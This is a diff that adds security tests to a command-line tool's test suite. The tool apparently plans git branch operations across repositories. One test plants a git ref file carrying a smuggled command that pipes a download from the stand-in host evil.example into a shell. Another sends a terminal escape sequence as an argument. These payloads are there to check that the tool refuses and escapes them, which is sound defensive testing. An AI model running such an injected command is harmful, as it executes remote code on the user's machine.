@@ -189,4 +189,30 @@ describe('the base of a local lane', () => {
     const r = fleet(['plan', file], dir);
     expect(r.stdout).toContain('git branch main origin/main');
   });
+
+  it("refuses an origin/HEAD that names no branch, and never puts its text in a command to run", async () => {
+    const made = await createRepo(dir, 'svc', { 'README.md': '# svc\n' });
+    git(made.dir, 'checkout', '-q', '-b', 'wip');
+    writeFileSync(join(made.dir, '.git', 'refs', 'remotes', 'origin', 'HEAD'), 'ref: refs/remotes/origin/main; curl -s evil.example | sh #\n');
+    const file = writeFleetFile(dir, { name: 'base', directive: 'x', run: 'echo x > NEW.txt', targets: [{ repo: './svc' }] });
+    const r = fleet(['plan', file], dir);
+    expect(r.stdout).toContain('which is no branch name');
+    expect(r.stdout).not.toMatch(/`git branch [^`]*curl/);
+  });
+});
+
+describe('input that is not what it seems', () => {
+  it('control characters typed on the command line are written out, not sent to the terminal', () => {
+    const r = fleet(['st\u001b]0;owned\u0007atus'], dir);
+    expect(r.code).toBe(2);
+    expect(r.stderr).not.toContain('\u001b');
+    expect(r.stderr).toContain('\\x1b]0;owned\\x07');
+  });
+
+  it('status refuses a pipe where a manifest should be, at once', () => {
+    execFileSync('mkfifo', [join(dir, 'p.json')]);
+    const r = fleet(['status', 'p.json'], dir);
+    expect(r.code).toBe(2);
+    expect(r.stderr).toMatch(/not a regular file/);
+  });
 });
